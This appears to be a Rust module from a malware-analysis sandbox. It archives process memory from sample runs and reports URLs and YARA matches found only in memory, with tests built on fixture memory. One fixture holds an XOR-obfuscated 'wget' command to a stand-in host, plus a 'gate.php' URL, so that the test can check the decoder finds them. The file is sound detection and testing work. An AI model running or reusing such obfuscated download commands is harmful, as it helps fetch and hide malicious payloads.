//! The memory of a sample's processes: as a tar archive in a CaRT container, a file for each stretch
//! that was not zero and a list of them; and what is in it, by the analysis that samples go through.

use crate::jailed::analyzed;
use std::fmt::Write as _;
use ukai_behaviour::{MemoryOfRun, Place, Seen, Stretch, in_memory, memory};
use ukai_jail::Jail;
use ukai_model::{Analysis, PeerText};

/// Longest name of a mapping in the list, in bytes.
const NAME_BYTES_MAX: usize = 256;
/// Memory of one run that is looked into, in bytes: what an analysis looks at wholly.
const LOOKED_BYTES_MAX: usize = 32 << 20;
/// A header of a tar archive, and what the length of a member is rounded up to, in bytes.
const BLOCK_BYTES: usize = 512;

/// The container; `None` if no memory came.
pub(super) fn archive(seen: &Seen) -> Option<Vec<u8>> {
    let stretches = memory(seen);
    if stretches.is_empty() {
        return None;
    }
    let mut list = "process\taddress\tbytes\tmapping\n".to_owned();
    let mut tar = tar::Builder::new(Vec::new());
    for stretch in &stretches {
        let (pid, address, size) = (stretch.pid, stretch.address, stretch.bytes.len());
        let name = PeerText::truncated(&stretch.name, NAME_BYTES_MAX);
        let _written = writeln!(list, "{pid}\t{address:#x}\t{size}\t{name}");
        add(&mut tar, &name_of(stretch), &stretch.bytes);
    }
    add(&mut tar, "list.tsv", list.as_bytes());
    let bytes = tar.into_inner().ok()?;
    Some(ukai_store::cart::pack(&bytes, &serde_json::Map::new()))
}

fn name_of(stretch: &Stretch) -> String {
    format!("{}/{:016x}", stretch.pid, stretch.address)
}

fn add(tar: &mut tar::Builder<Vec<u8>>, path: &str, bytes: &[u8]) {
    let mut header = tar::Header::new_gnu();
    header.set_mode(0o600);
    header.set_size(bytes.len() as u64);
    // Into memory, nothing fails; names are ours and short.
    let _written = tar.append_data(&mut header, path, bytes);
}

/// A run's memory, to be analysed.
pub(super) struct Packed {
    run: u32,
    tar: Vec<u8>,
    places: Vec<Place>,
    /// Bytes that found no room.
    cut: u64,
}

/// The memory of those of the runs of which some came.
pub(super) fn packed(runs: &[Seen]) -> Vec<Packed> {
    let all = (1..).zip(runs).map(|(run, seen)| packed_one(run, &memory(seen)));
    all.filter(|packed| !packed.places.is_empty()).collect()
}

fn packed_one(run: u32, stretches: &[Stretch]) -> Packed {
    let mut tar = tar::Builder::new(Vec::new());
    let mut places = Vec::new();
    let mut cut = 0;
    for stretch in stretches {
        let at = tar.get_ref().len() + BLOCK_BYTES;
        let room = LOOKED_BYTES_MAX.saturating_sub(at);
        let bytes = &stretch.bytes[..stretch.bytes.len().min(room)];
        cut += (stretch.bytes.len() - bytes.len()) as u64;
        if bytes.is_empty() {
            continue;
        }
        let name = name_of(stretch);
        add(&mut tar, &name, bytes);
        places.push(Place {
            name,
            pid: stretch.pid,
            address: stretch.address,
            mapping: PeerText::truncated(&stretch.name, NAME_BYTES_MAX),
            at: at as u64,
            bytes: bytes.len() as u64,
        });
    }
    Packed { run, tar: tar.into_inner().unwrap_or_default(), places, cut }
}

/// What is in the memory of runs and not in the sample, of which `known` is the analysis.
pub(super) async fn look_into(
    packed: Vec<Packed>,
    known: &Analysis,
    jail: &Jail,
) -> Vec<MemoryOfRun> {
    let mut told = Vec::new();
    for one in packed {
        let analysis = analyzed(jail, &one.tar).await;
        told.push(one.told(&analysis, known));
    }
    told
}

impl Packed {
    fn told(&self, analysis: &Analysis, known: &Analysis) -> MemoryOfRun {
        let mut told = in_memory(self.run, &self.places, analysis, known);
        if self.cut > 0 {
            told.notes.push(format!("{} bytes of memory were not looked at", self.cut));
        }
        told
    }
}

#[cfg(test)]
mod tests {
    use super::packed_one;
    use proptest::prelude::*;
    use std::sync::LazyLock;
    use ukai_behaviour::{MemoryOfRun, Stretch, set_memory};
    use ukai_model::{
        Analysis, Behaviour, Ended, InMemory, ObservableKind, Run, Sha256, StringEncoding,
        Timestamp,
    };
    use ukai_static::{Limits, analyze_with};
    use ukai_yara::{Manifest, RuleSet, Rules, States};

    const RULES: &str = r#"
        rule told_at_run_time : inert { strings: $a = "kept-for-later" condition: $a }
        rule in_the_file { strings: $a = "in the file" condition: $a }
        rule of_two_stretches { strings: $a = "kept-for-later" $b = "first half" condition: all of them }
    "#;

    fn analysis(bytes: &[u8]) -> Analysis {
        let files = vec![("own.yar".to_owned(), RULES.to_owned())];
        let set = RuleSet { manifest: Manifest::unnamed("own"), files };
        let (rules, problems) = Rules::compile(vec![set], States::default());
        assert!(!problems.iter().any(|problem| problem.fatal), "{problems:?}");
        let limits = Limits::default();
        analyze_with(bytes, Timestamp::default(), &limits, Some(&rules), &mut |_| ())
    }

    fn stretch(pid: u32, address: u64, name: &str, bytes: &[u8]) -> Stretch {
        Stretch { pid, address, name: name.into(), bytes: bytes.to_vec() }
    }

    fn found(of_run: &MemoryOfRun, what: &str) -> InMemory {
        let is = |found: &&InMemory| {
            let rule = found.yara.as_ref().is_some_and(|it| it.rule == what);
            rule || found.value.as_ref().is_some_and(|it| it.observable.value == what)
        };
        of_run.found.iter().find(is).unwrap_or_else(|| panic!("{what}: {of_run:#?}")).clone()
    }

    fn texts() -> Vec<Stretch> {
        let hidden: Vec<u8> =
            b"\0\0http://hidden.example.net/gate.php\0wget http://hidden.example.net/b\0"
                .iter()
                .map(|byte| byte ^ 0x5a)
                .collect();
        vec![
            stretch(
                7,
                0x1000,
                "/tmp/a",
                b"\x01\x02http://known.example.org/a\0in the file\0first half",
            ),
            stretch(
                7,
                0x7fff_0000,
                "[heap]",
                b"\x01\x02\x03http://decoded.example.net/x\0kept-for-later\0",
            ),
            stretch(9, 0x2000, "", &hidden),
        ]
    }

    #[test]
    fn what_is_only_in_memory_is_told_with_its_place() {
        let known = analysis(b"http://known.example.org/a\0in the file");
        let packed = packed_one(2, &texts());
        let told = packed.told(&analysis(&packed.tar), &known);
        let plain = found(&told, "http://decoded.example.net/x");
        assert_eq!((plain.process.pid, plain.address), (7, 0x7fff_0003));
        assert_eq!(plain.mapping.to_string(), "[heap]");
        let hidden = found(&told, "http://hidden.example.net/gate.php");
        assert_eq!((hidden.process.pid, hidden.address), (9, 0x2002));
        let value = hidden.value.expect("a value");
        assert_eq!(value.observable.kind, ObservableKind::Url);
        assert_eq!(value.encoding, StringEncoding::Xor { key: 0x5a });
        let rule = found(&told, "told_at_run_time");
        assert_eq!((rule.process.pid, rule.address), (7, 0x7fff_0000 + 32));
        assert_eq!(rule.yara.expect("a rule").tags, ["inert"]);
        // Its strings are in two stretches: the first of them is its place.
        assert_eq!(found(&told, "of_two_stretches").process.pid, 7);
        let text = format!("{told:?}");
        assert!(!text.contains("known.example.org") && !text.contains("in_the_file"), "{text}");
        assert_eq!(told.left_out, 0);
        assert!(told.notes.is_empty(), "{:?}", told.notes);
    }

    #[test]
    fn a_report_has_it_once_and_says_what_was_not_looked_at() {
        let run = |number| Run {
            number,
            started: Timestamp::default(),
            duration_ms: 1,
            architecture: "arm".into(),
            command: "/tmp/a".into(),
            scenario: "open".into(),
            settings: Vec::new(),
            ended: Ended::TimeUsed,
            reason: None,
            reached: true,
            traced: true,
            records: 1,
            lost: 0,
            events: 0,
            notes: Vec::new(),
        };
        let mut report = Behaviour::new(Sha256::of(b"a"), Timestamp::default());
        report.runs = vec![run(1), run(2)];
        let known = analysis(b"nothing");
        let mut packed = packed_one(1, &texts());
        packed.cut = 5;
        let mut found = analysis(&packed.tar);
        found.outcome = ukai_model::Outcome::Partial { reason: "time".into() };
        let again = packed_one(2, &texts());
        let told = vec![packed.told(&found, &known), again.told(&found, &known)];
        set_memory(&mut report, told);
        let values = report.memory.iter().filter_map(|one| one.value.as_ref());
        assert_eq!(values.filter(|it| it.observable.kind == ObservableKind::Url).count(), 4);
        assert!(report.memory.iter().all(|one| one.runs == [1, 2]), "{:#?}", report.memory);
        let notes = report.runs[0].notes.join("; ");
        assert_eq!(
            notes,
            "memory was looked at in part: time; 5 bytes of memory were not looked at"
        );
        let text = ukai_behaviour::text(&report);
        for line in ["In memory", "YARA own/told_at_run_time  inert", "5 bytes of memory"] {
            assert!(text.contains(line), "{line}: {text}");
        }
    }

    /// Made once: rules are compiled for it.
    static ANALYSED: LazyLock<(Vec<Stretch>, Analysis, Analysis)> = LazyLock::new(|| {
        let archive = vec![stretch(1, 0, "", b"http://a.example.net/b c")];
        let tar = packed_one(1, &archive).tar;
        (archive, analysis(&tar), analysis(b""))
    });

    proptest! {
        /// Whatever a child says of layers and offsets.
        #[test]
        fn places_are_looked_up_in_any_analysis(
            offsets in proptest::collection::vec((any::<u64>(), proptest::option::of(0_u32..6)), 0..9),
            parents in proptest::collection::vec(proptest::option::of(0_u32..6), 0..9),
            address: u64,
        ) {
            let (archive, analysis, known) = &*ANALYSED;
            let mut packed = packed_one(1, archive);
            packed.places[0].address = address;
            let mut told = analysis.clone();
            let first = told.observables[0].clone();
            told.observables.extend(offsets.into_iter().map(|(offset, layer)| {
                ukai_model::Found { offset, layer, ..first.clone() }
            }));
            let member = told.members[0].clone();
            told.members = parents.into_iter().map(|parent| ukai_model::Member { parent, ..member.clone() }).collect();
            let count = told.observables.len() + told.yara.len();
            let of_run = packed.told(&told, known);
            prop_assert!(of_run.found.len() + of_run.left_out as usize <= count);
        }
    }
}
